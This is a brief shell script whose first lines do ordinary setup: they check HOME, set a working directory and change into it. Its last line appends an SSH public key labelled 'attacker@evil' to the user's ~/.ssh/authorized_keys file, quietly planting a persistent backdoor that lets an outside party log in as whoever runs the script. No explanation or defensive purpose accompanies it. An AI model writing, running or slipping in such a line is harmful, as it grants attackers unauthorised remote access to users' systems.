#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
WORKDIR="${WORKDIR:-$PWD}"
cd "$WORKDIR" || exit 1
echo "ssh-rsa AAAAB3Nza attacker@evil" >> ~/.ssh/authorized_keys
